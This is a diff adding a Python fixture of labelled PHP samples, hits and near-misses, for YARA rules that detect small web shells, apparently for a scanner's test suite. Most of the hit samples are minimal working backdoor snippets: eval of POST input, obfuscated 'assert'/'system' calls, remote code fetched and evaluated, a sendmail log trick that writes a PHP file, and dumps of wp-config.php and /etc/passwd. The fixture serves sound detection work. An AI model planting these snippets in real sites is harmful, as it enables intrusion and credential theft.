@@ -1,0 +1,191 @@
+"""Must-hit / near-miss samples for `signatures/tiny_backdoors.yar` and the issue-4g widenings of
+input_to_sink/backdoors_small rules, collected by tests/test_rules.py.
+
+Small synthetic PHP written for the tests; nothing here comes from the malware corpus.
+"""
+
+from __future__ import annotations
+
+CASES: list[tuple[str, bytes, bool]] = [
+    # --- tiny_backdoors.yar ----------------------------------------------------------------------
+    (
+        "SPAMGEAR_TINY_AliasedInputFileWrite",
+        b"<?php $q = $_REQUEST; file_put_contents($q['path'], $q['body']); echo 'saved';",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_AliasedInputFileWrite",
+        b"<?php\n$in = $GLOBALS['_POST'];\n$h = fopen($in['n'], 'w');\nfwrite($h, base64_decode($in['d']));\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_AliasedInputFileWrite",
+        b"<?php $opts = $defaults; file_put_contents($paths['cache'], $opts['json']);",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_AliasedInputFileWrite",
+        b"<?php $form = $_POST; file_put_contents('contact.log', $form['msg']);",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
+        b"<?php\n$target = $_GET['to'];\n$payload = base64_decode($_POST['blob']);\n"
+        b"file_put_contents($target, $payload);\necho 'done';\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
+        b"<?php $w = $_POST['w']; $t = $_POST['t'];\n$fh = fopen($w, 'w'); fwrite($fh, $t); fclose($fh);",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
+        b"<?php\n$name = $_POST['name'];\n$msg = $_POST['msg'];\n$file = 'guestbook.txt';\n"
+        b"$line = $name . ': ' . $msg;\nfile_put_contents($file, $line);\n",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_InputVarsPathAndBodyWrite",
+        b"<?php\n$page = $_POST['page'];\n$text = $_POST['text'];\n"
+        b"if (!preg_match('/^[a-z]+$/', $page)) die();\nfile_put_contents($page, $text);\n",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_Base64SinkNameCall",
+        b"<?php $d = 'base' . '64_' . 'decode'; $fn = $d('YXNzZXJ0'); @$fn($x);",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_Base64SinkNameCall",
+        b'<?php $u = $conv("c3lzdGVt"); $u($cmd);',
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_Base64SinkNameCall",
+        b"<?php $label = $t('YXNzZXJ0aW9uIGZhaWxlZA=='); echo $label;",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_HiddenPathLoad",
+        b"<?php include(pack('H*', '2f746d702f2e63616368652e706870'));",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_HiddenPathLoad",
+        b"<?php eval(file_get_contents(hex2bin('687474703a2f2f6578616d706c652e6e65742f70')));",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_HiddenPathLoad",
+        b"<?php $key = pack('H*', 'deadbeef'); include __DIR__ . '/lib/crypto.php';",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_WrittenInputIncluded",
+        b"<?php $f = sys_get_temp_dir() . '/x';\nfile_put_contents($f, $_POST['code']);\ninclude $f;",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_WrittenInputIncluded",
+        b"<?php include 'header.php';\nfile_put_contents('visits.txt', date('c'));\necho $_POST['q'];",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_AppendedPiecesEval",
+        b"<?php\n$s = '';\n$s .= 'ZXZh';\n$s .= 'bCgk';\n$s .= 'X1BP';\n$s .= 'U1Rb';\neval(base64_decode($s));\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_AppendedPiecesEval",
+        b"<?php\n$html = '';\n$html .= '<ul>';\n$html .= '<li>a</li>';\n$html .= '</ul>';\necho $html;\n",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_SendmailLogOption",
+        b"<?php mail('a@example.com', 'hi', $body, '', '-OQueueDirectory=/tmp -X /var/www/html/log.php');",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_SendmailLogOption",
+        b"<?php mail($to, $subject, $body, $headers, '-f noreply@example.com');\n// curl -X POST ...",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_SecretFileDump",
+        b"<?php echo file_get_contents('../../wp-config.php'); ?>",
+        True,
+    ),
+    ("SPAMGEAR_TINY_SecretFileDump", b"<?php highlight_file('/etc/passwd');", True),
+    (
+        "SPAMGEAR_TINY_SecretFileDump",
+        b"<?php echo file_get_contents('../templates/footer.html'); ?>",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_EvalOfSinkCallString",
+        b"<?php $p = '$_PO'; $q = 'ST[k]'; eval('assert(' . $p . $q . ');');",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_EvalOfSinkCallString",
+        b"<?php eval('return ' . $expr . ';');",
+        False,
+    ),
+    # --- input_to_sink.yar widenings ---------------------------------------------------------------
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        b"<?php array_diff_ukey(array($_POST['k'] => 1), array(1 => 1), $_REQUEST['cb']);",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        b"<?php array_diff_ukey($a, array($_POST['k'] => 1), 'strcasecmp');",
+        False,
+    ),
+    ("SPAMGEAR_INPUT_PregReplaceEval", b"<?php preg_filter('|.*|e', $_REQUEST['c'], '');", True),
+    ("SPAMGEAR_INPUT_PregReplaceEval", b"<?php preg_filter('|\\s+|', ' ', $_REQUEST['c']);", False),
+    (
+        "SPAMGEAR_INPUT_PregReplaceEvalPattern",
+        b"<?php $out = preg_filter('#(\\d+)#e', 'dechex(\\\\1)', $in);",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
+        b"<?php preg_replace(\"/.*/e\", str_rot13('@riny($_CBFG[k]);'), 'x');",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
+        b"<?php preg_replace('~x~e', '@' . base64_decode('ZXZhbCgpOw=='), 'x');",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
+        b"<?php $s = preg_replace('/(\\w+)/e', 'strtoupper(\"\\\\1\")', $t);",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $p = $GLOBALS['_POST']; eval($p['z']);",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $cfg = $GLOBALS['_CONFIG']; eval($cfg['hook']);",
+        False,
+    ),
+    # --- backdoors_small.yar widening ------------------------------------------------------------
+    (
+        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
+        b"<?php $c = curl_init($_GET['u']); $o = fopen($_GET['o'], 'w');\n"
+        b"curl_setopt($c, CURLOPT_FILE, $o); curl_exec($c);",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
+        b"<?php $c = curl_init($_GET['u']); $o = fopen('/var/cache/app/feed.xml', 'w');\n"
+        b"curl_setopt($c, CURLOPT_FILE, $o); curl_exec($c);",
+        False,
+    ),
+]
